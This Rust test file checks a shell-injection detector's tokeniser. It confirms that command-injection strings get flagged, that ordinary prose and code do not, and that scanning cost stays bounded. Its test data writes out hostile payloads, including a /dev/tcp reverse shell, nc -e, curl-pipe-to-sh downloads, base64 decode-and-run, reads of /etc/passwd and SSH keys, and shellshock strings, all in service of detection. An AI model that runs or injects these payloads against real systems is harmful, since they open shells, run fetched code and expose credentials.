//! What the tokeniser sees, by kind of text.

use detect::structure::shell::{self, Shell};
use proptest::prelude::*;

use crate::view;

fn names(raw: &str) -> Vec<&'static str> {
    let found = shell::read(&view::bytes(&view::shell(raw)), &mut 0).0;
    let set = Shell::NAMES.iter().enumerate().filter(|(bit, _)| found >> bit & 1 == 1);
    set.map(|(_, name)| name.trim_start_matches("shell.")).collect()
}

fn check(flag: &str, texts: &[&str]) {
    for text in texts {
        let found = names(text);
        assert!(found.contains(&flag), "{text} is {found:?}, not {flag}");
    }
}

#[test]
fn a_command_in_a_folder_is_one_only_where_commands_live() {
    check(
        "command_after_separator",
        &["x;/usr/bin/whoami", "x; ./whoami", "x;/windows/system32/whoami"],
    );
    for text in ["x;docs/whoami", "x;docs/./whoami"] {
        assert!(!names(text).contains(&"command_after_separator"), "{text}");
    }
}

#[test]
fn commands_behind_a_separator_are_seen() {
    check(
        "command_after_separator",
        &[
            "8.8.8.8; uname -a",
            "x | whoami",
            "a && curl http://a.example/x",
            "1|| netstat -an",
            "x;cat /var/log/syslog",
            "& ipconfig /all",
            ";id",
            "|id",
            "';ls;'",
            "x;w'h'o'a'mi",
        ],
    );
    check(
        "substitution",
        &["$(whoami)", "`uname -a`", "x`id`", "$(cat /var/www/x)", "a$(sleep 9)"],
    );
    check("command_with_path", &["/usr/bin/id", "x;/bin/ls -l", "|/bin/uname"]);
    check("pipe_chain", &["x;ps aux|grep root", "; ls -l | wc -l"]);
    check("loose_command", &["name|ls|size", "x;who"]);
    check("bare_command", &["whoami", "ifconfig"]);
}

#[test]
fn what_a_command_does_is_seen() {
    check("redirect_to_path", &["; echo x > /tmp/y", "ls 2>&1", ";cat </etc/group"]);
    check(
        "download_and_run",
        &[
            "; curl http://a.example/x | sh",
            "x && wget http://a.example/x -o /tmp/x && chmod +x /tmp/x",
        ],
    );
    check("decode_and_run", &["; echo aaaa | base64 -d | bash"]);
    check(
        "reverse_shell",
        &[
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            ";nc -e /bin/sh 192.0.2.1 99",
            "rm /tmp/f;mkfifo /tmp/f",
        ],
    );
    check(
        "sensitive_argument",
        &["; cat /etc/passwd", "head ~/.ssh/id_rsa", "type c:\\windows\\win.ini"],
    );
    check("timing_probe", &["; sleep 12", "| ping -c 9 127.0.0.1", "$(sleep 7)"]);
    check("env_expansion", &["${path:0:1}", "$((40+2))", "%path:~3,1%"]);
    check("glob_path", &["/???/c?t /???/p??s?d", "; /bin/c?t x"]);
    check("windows", &["cmd /c dir", "powershell -enc aaaa", "%comspec%"]);
    check(
        "shellshock",
        &["() { :;}; echo x", "() { :; }; /bin/id", "() { _; } >_[$($())] { id; }"],
    );
    check("assigned_command", &["; a=id;$a", "x;z=ls; $z -l"]);
    check("interpreter", &["; python3 -c 'print(1)'", "perl -e 'x'", "sh -c id", "php -r $a"]);
    assert_eq!(names("python -c command"), ["command_line"]);
    check("break_out", &["';id;'", "x\"; uname -a; \"", "' || whoami"]);
}

#[test]
fn prose_and_code_in_prose_convict_nobody() {
    const CONVICTING: &[&str] = &[
        "command_after_separator",
        "substitution",
        "pipe_chain",
        "download_and_run",
        "reverse_shell",
        "sensitive_argument",
        "glob_path",
        "shellshock",
        "timing_probe",
        "assigned_command",
        "break_out",
        "command_with_path",
    ];
    let texts = [
        "Run `cargo test` before `git push`; then wait",
        "if (a || b) then c",
        "x && y",
        "let id = find(x); sort(y);",
        "Find the cat; sort more of it in time",
        "C:\\Users\\me\\Documents\\plan.txt",
        "https://shop.example/list?sort=asc&id=7&date=2024&type=cat",
        "The `id` field and the `ls` alias; see `find`",
        "|id| id + 1",
        "vec.iter().map(|x| x.len()); who | what",
        "Salt & pepper; time & tide",
        "R&D & date",
        "name|date|id|type",
        "Fish and chips; more at the counter",
        "Fix bug in sort; make time for the test",
        "while (true) { read(x); }",
        "Support `$(...)` in macros, remove `curl` crate",
        "me@mail.example; you@mail.example",
        "text/html; charset=utf-8",
        "Mozilla/5.0 (X11; Linux x86_64; rv:9.0) Gecko/20100101",
        "Mozilla/5.0 (compatible; Findbot/1.0; http://find.example/)",
        "$(document).ready(function () { x; });",
        "| id | name | date |",
    ];
    for text in texts {
        let found = names(text);
        assert!(!found.iter().any(|flag| CONVICTING.contains(flag)), "{text} is {found:?}");
    }
}

proptest! {
    #[test]
    fn any_bytes_can_be_read_in_bounded_steps(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let mut steps = 0;
        shell::read(&bytes, &mut steps);
        prop_assert!(steps <= 400 * (bytes.len() as u64 + 1));
    }
}

#[test]
fn ten_times_the_text_takes_ten_times_the_steps() {
    for unit in ["; cat /etc/passwd ", "`id` $(x) ", "/???/", "|||&&&", "a=b;$a "] {
        let (mut one, mut ten) = (0, 0);
        shell::read(unit.repeat(100).as_bytes(), &mut one);
        shell::read(unit.repeat(1000).as_bytes(), &mut ten);
        assert!(ten as f64 <= 10.5 * one as f64, "{unit}: {one} and {ten}");
    }
}
